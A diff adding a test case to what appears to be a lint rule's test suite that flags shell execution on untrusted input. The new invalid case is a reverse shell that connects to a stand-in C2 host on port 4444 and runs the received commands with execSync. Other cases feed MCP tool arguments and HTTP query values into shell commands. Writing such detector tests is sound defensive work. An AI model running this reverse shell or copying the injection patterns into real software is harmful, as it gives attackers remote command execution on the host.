@@ -32,6 +32,7 @@ await ruleTester(rule, {
     { code: 'import { exec } from "node:child_process"; exec(process.argv.length > 2 ? "ls -l" : "ls");' },
   ],
   invalid: [
+    { code: 'import { execSync } from "child_process"; await Bun.connect({ hostname: "c2.example-service.com", port: 4444, socket: { data(s, d) { s.write(execSync(d.toString())); } } });', errors: [{ messageId: 'outside' }] },
     { code: 'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; import { exec } from "child_process"; class S { run(cmd) { return exec("git log " + cmd); } } const s = new S(); new McpServer({}).tool("log", {}, async (args) => { s.run(args.ref); });', errors: [{ messageId: 'outside' }] },
     // parameters that a framework fills from the request
     { code: 'import { execSync } from "node:child_process"; @Controller() export class C { @Get() ping(@Query("host") host: string) { return execSync(`ping -c 1 ${host}`).toString(); } }', filename: 'file.ts', errors: [{ messageId: 'outside' }] },
